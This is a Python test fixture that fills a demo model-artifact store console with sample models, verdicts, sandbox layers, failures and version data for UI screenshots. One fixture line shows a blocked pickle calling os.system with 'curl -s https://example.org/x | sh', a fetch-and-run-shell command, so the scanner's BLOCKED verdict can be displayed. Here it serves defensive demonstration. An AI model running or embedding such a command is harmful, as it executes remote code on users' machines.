"""A small store in records, frozen in time: what pictures and screen tests show."""

from __future__ import annotations

from copy import deepcopy
from dataclasses import replace
from functools import cache

from backends.core.inspection import ArrayInfo, Finding, GlobalRef, Inspection, Json, ModelEntry, Signature
from console.monitor.series import Recorder
from console.records import (
    Artifact,
    Candidate,
    Comparison,
    DataFile,
    ExceptionInfo,
    Explanation,
    Failure,
    Frame,
    GateResult,
    Judgement,
    Layer,
    Memory,
    ProbePlan,
    ProbeState,
    Quantiles,
    Report,
    Verdict,
    Version,
    WorkerState,
    WorkerView,
)
from console.trust.content_diff import difference, seen_of
from console.trust.explain import explain
from console.trust.policy import Policy
from console.trust.verdict import judge
from tests.ui.feeder import Feeder

NOW = 1_790_000_000.0
_MEMORY = Memory(220_200_960, 198_000_000, 150_000_000, 231_000_000)


def recorded(seconds: int = 40) -> Recorder:
    """Measurements of `seconds`, ten calls in each, that rise and fall; its clock stands still afterwards."""
    return deepcopy(_recorded(seconds))


@cache
def _recorded(seconds: int) -> Recorder:
    now = [1000.0]
    recorder = Recorder(lambda: now[0])
    for step in range(seconds * 10):
        now[0] = 1000.0 + step / 10
        wave = abs((step % 80) - 40) / 40
        recorder.call(1, 0.6 + wave * (1.5 if step % 7 == 0 else 0.4), 1.1 + wave)
        recorder.reading(_MEMORY, 3.5)
    return recorder


LAYERS = {
    "descriptors": Layer(True, "4 open, all given to it"),
    "terminal": Layer(True, "session of its own, no controlling terminal"),
    "limits": Layer(True, "memory 8192 MB, 60 s of one core, 64 files, no core dumps"),
    "cgroup": Layer(False, "the control groups here are read-only: memory is capped by the limits alone"),
    "namespaces": Layer(True, "user, network, IPC and UTS of its own"),
    "user": Layer(True, "uid 65534, no groups, no capabilities"),
    "no_new_privs": Layer(True, "NoNewPrivs: 1"),
    "landlock": Layer(True, "ABI 7: 3 trees to read, its scratch directory to write"),
    "seccomp": Layer(True, "filter mode, 61 system calls refused"),
}


def artifact(
    path: str, size: int, age: float, kind: str, cls: str | None, verdict: Verdict | None, **more: object
) -> Artifact:
    """A row; `age` is seconds before NOW."""
    return Artifact(path, size, NOW - age, format=kind, model_class=cls, runs=cls is not None, verdict=verdict, **more)  # type: ignore[arg-type]


_ROWS = (
    artifact(
        "churn/rf.joblib", 4_404_019, 7300, "joblib", "sklearn.ensemble._forest.RandomForestClassifier", Verdict.SAFE
    ),
    artifact(
        "digits/mlp.h5",
        317_440,
        90_000,
        "hdf5",
        "sklearn.neural_network._multilayer_perceptron.MLPClassifier",
        Verdict.SAFE,
    ),
    artifact(
        "fraud/lr.pkl",
        12_288,
        5,
        "pickle",
        "sklearn.pipeline.Pipeline",
        Verdict.REVIEW,
        steps=("sklearn.preprocessing._data.StandardScaler", "sklearn.linear_model._logistic.LogisticRegression"),
        changed=True,
        why="names company.features.Ratio, which is not on the list",
    ),
    artifact(
        "housing/boost.joblib",
        1_153_434,
        500,
        "joblib",
        "sklearn.ensemble._hist_gradient_boosting.gradient_boosting.HistGradientBoostingRegressor",
        Verdict.SAFE,
    ),
    artifact(
        "inbox/unknown.pkl", 1_024, 260_000, "pickle", None, Verdict.BLOCKED, why="calls os.system when it is loaded"
    ),
    artifact("inbox/half.joblib", 88_000, 3_000, "joblib", None, Verdict.DAMAGED, why="ends before what it announces"),
    artifact("iris/svm.pkl", 6_900, 400_000, "pickle", "sklearn.svm._classes.SVC", Verdict.SAFE),
    artifact(
        "news/text-pipeline.joblib",
        2_621_440,
        41_000,
        "joblib",
        "sklearn.pipeline.Pipeline",
        Verdict.SAFE,
        steps=(
            "sklearn.feature_extraction.text.TfidfVectorizer",
            "sklearn.linear_model._stochastic_gradient.SGDClassifier",
        ),
    ),
    artifact("segments/kmeans.h5", 48_200, 700_000, "hdf5", "sklearn.cluster._kmeans.KMeans", Verdict.SAFE),
    artifact(
        "trouble/predict-raises.joblib",
        5_100,
        86_400,
        "joblib",
        "sample_models.trouble.RaisesOnPredict",
        Verdict.REVIEW,
    ),
    artifact("trouble/worker-dies.joblib", 5_300, 86_400, "joblib", "sample_models.trouble.Dies", Verdict.REVIEW),
    artifact("vision/digits-cnn.keras", 1_900_000, 1_000_000, "keras", "keras.Sequential", Verdict.SAFE),
)

RAISED = Failure(
    1,
    NOW - 42,
    "trouble/predict-raises.joblib",
    "predict",
    "raised",
    "could not convert string to float: 'n/a'",
    type="ValueError",
    chain=(
        ExceptionInfo(
            "KeyError",
            "'age'",
            frames=(Frame("/opt/models/features.py", 18, "ratio", "return row['age'] / row['tenure']"),),
        ),
        ExceptionInfo(
            "ValueError",
            "could not convert string to float: 'n/a'",
            frames=(
                Frame(
                    "/venv/lib/python3.11/site-packages/sklearn/base.py",
                    1365,
                    "wrapper",
                    "return fit_method(estimator, *args, **kwargs)",
                ),
                Frame("/opt/models/features.py", 31, "transform", "return X.astype(float)"),
            ),
            notes=("column 3 of the batch",),
            relation="cause",
        ),
    ),
    warnings=("InconsistentVersionWarning: trained with scikit-learn 1.2.2, running 1.9.1",),
    stderr="loading features\nratio failed for row 17\n",
    input="DataFrame 10 x 30: 28 float64, 2 object",
    hint="trained with scikit-learn 1.2.2, running 1.9.1: pip install scikit-learn==1.2.2",
    memory=Memory(210_000_000, 190_000_000, 150_000_000, 231_000_000),
)
DIED = Failure(
    2,
    NOW - 8,
    "trouble/worker-dies.joblib",
    "predict",
    "died",
    "the worker was killed by SIGSEGV",
    exit="killed by signal 11 (SIGSEGV, segmentation fault)",
    stderr="Fatal Python error: Segmentation fault\n",
    hint=None,
)
VERSIONS = (
    Version(
        3,
        "sha256:9f2c41d0aa",
        NOW - 7300,
        "maria",
        "gate passed: roc_auc 0.9312",
        4_404_019,
        True,
        {"roc_auc": 0.9312, "f1": 0.8804},
    ),
    Version(
        2,
        "sha256:71bb02c9de",
        NOW - 90_000,
        "maria",
        "rolled back from 3",
        4_390_112,
        False,
        {"roc_auc": 0.9251, "f1": 0.8790},
    ),
    Version(
        1,
        "sha256:02aa8f3311",
        NOW - 900_000,
        "tomek",
        "first version seen",
        3_990_000,
        False,
        {"roc_auc": 0.9108, "f1": 0.8522},
    ),
)

DECIDED = "separated by ';', header, utf-8, decimal comma, ignored: customer, since, columns by name"
TRAINING = DataFile("/srv/models/churn/data/churn-train.csv", 2000, (), "churned", DECIDED)
HOLDOUT = DataFile("/srv/models/churn/data/churn-holdout.csv", 600, (), "churned", DECIDED)
COMPARED = Comparison(
    "churn/rf.joblib",
    NOW - 30,
    "classification",
    600,
    Candidate(
        "sha256:9f2c41d0aa",
        4_404_019,
        "sklearn.ensemble._forest.RandomForestClassifier",
        {"n_estimators": 200},
        {"roc_auc": 0.9312, "f1": 0.8804, "log_loss": 0.2911},
        Quantiles(0.81, 1.4, 2.1, 3.3, 200),
    ),
    Candidate(
        "sha256:b7708d12ee",
        6_104_019,
        "sklearn.ensemble._forest.RandomForestClassifier",
        {"n_estimators": 300},
        {"roc_auc": 0.9377, "f1": 0.8790, "log_loss": 0.2702},
        Quantiles(1.22, 1.9, 3.4, 4.1, 200),
    ),
    (
        GateResult("roc_auc at least 0.9", True, "0.9377"),
        GateResult("roc_auc not worse by more than 0.005", True, "0.9312 now, 0.9377 for the candidate"),
        GateResult("latency at most 1.5 times the current", False, "0.81 ms now, 1.22 ms for the candidate (median)"),
    ),
    passed=False,
    changed=(("n_estimators", "200", "300"), ("version of scikit-learn", "1.9.0", "1.9.1")),
    metric="roc_auc",
    seconds=14.2,
    trained_on=TRAINING,
    measured_on=HOLDOUT,
)


def demo() -> Feeder:
    """The store, with one model ready and probed, one changed, one dead."""
    feeder = Feeder(_ROWS)
    for row in _ROWS:
        feeder.reports[row.path] = _report(row)
    feeder.layers = LAYERS
    feeder.explanations["fraud/lr.pkl"] = _explanation(feeder.reports["fraud/lr.pkl"], then=NOW - 9000)
    feeder.views["churn/rf.joblib"] = WorkerView(
        "churn/rf.joblib",
        WorkerState.READY,
        NOW - 60,
        pid=4242,
        digest="sha256:9f2c41d0aa",
        layers=LAYERS,
        methods=("predict", "predict_proba"),
        memory=_MEMORY,
        cpu=3.5,
    )
    feeder.probes["churn/rf.joblib"] = ProbeState(
        ProbePlan("data/churn-holdout.csv"),
        True,
        NOW - 50,
        912,
        912,
        0,
        20.0,
        Quantiles(0.81, 1.4, 2.1, 3.3, 912),
        Quantiles(1.2, 1.9, 2.8, 4.4, 912),
        data=HOLDOUT,
    )
    feeder.views["fraud/lr.pkl"] = WorkerView(
        "fraud/lr.pkl", WorkerState.READY, NOW - 600, pid=4250, layers=LAYERS, memory=Memory(98_000_000)
    )
    feeder.views["trouble/worker-dies.joblib"] = WorkerView(
        "trouble/worker-dies.joblib", WorkerState.ERROR, NOW - 8, layers=LAYERS, last_failure=2
    )
    feeder.recorders["churn/rf.joblib"] = recorded()
    feeder.failed += [RAISED, DIED]
    feeder.versions["churn/rf.joblib"] = VERSIONS
    feeder.say("store.scanned", "", "12 artifacts found")
    feeder.say("worker.ready", "churn/rf.joblib", "churn/rf.joblib is ready after 412 ms", "ok")
    feeder.say("artifact.changed", "fraud/lr.pkl", "fraud/lr.pkl has other bytes than its worker", "attention")
    feeder.say(
        "failure.added",
        "trouble/worker-dies.joblib",
        "trouble/worker-dies.joblib: predict failed: killed by SIGSEGV",
        "failure",
    )
    return feeder


_UNLISTED = (
    GlobalRef("sklearn.linear_model._logistic", "LogisticRegression", 27, True),
    GlobalRef("company.features", "Ratio", 114, True, "'age', 'tenure'"),
    GlobalRef("company.features", "Log", 181, True),
)
_NAMES = {
    Verdict.REVIEW: _UNLISTED,
    Verdict.BLOCKED: (GlobalRef("os", "system", 27, True, "'curl -s https://example.org/x | sh'"),),
}


def _inspection(row: Artifact) -> Inspection:
    verdict = row.verdict or Verdict.SAFE
    models = () if row.model_class is None else (_entry(row, row.model_class),)
    cut = Finding("truncated", "it ends at byte 88,000 where 310,000 are announced", 88_000)
    return Inspection(
        row.format or "pickle",
        model_class=row.model_class,
        names=_NAMES.get(verdict, ()),
        library_versions={"scikit-learn": "1.9.1"} if models else {},
        parameters=models[0].parameters if models else {},
        signature=Signature(30, classes=("no", "yes")) if models else Signature(),
        models=models,
        arrays=(ArrayInfo("classes_", (2,), "int64", 16),) if models else (),
        n_weights=48_211 if models else None,
        complete=verdict is not Verdict.DAMAGED,
        findings=(cut,) if verdict is Verdict.DAMAGED else (),
    )


def _entry(row: Artifact, model_class: str) -> ModelEntry:
    parameters: dict[str, Json] = {"n_estimators": 200, "max_depth": None} if "Forest" in model_class else {}
    return ModelEntry("", model_class, parameters, "1.9.1", row.steps)


def _report(row: Artifact) -> Report:
    found = _inspection(row)
    return Report(row, found, judge(found, Policy()))


def _explanation(report: Report, *, then: float) -> Explanation:
    """As it is where the content that stood there before named nothing but what is known, and was fitted otherwise."""
    assert report.inspection is not None
    old = replace(report.inspection, names=report.inspection.names[:1], parameters={"C": 1.0}, models=())
    new = replace(report.inspection, parameters={"C": 0.3}, models=())
    before = Report(replace(report.artifact, size=11_904), old, Judgement(Verdict.SAFE))
    since = difference(seen_of(before, then), seen_of(replace(report, inspection=new), NOW))
    return explain(report.inspection, report.judgement, Policy(), since)
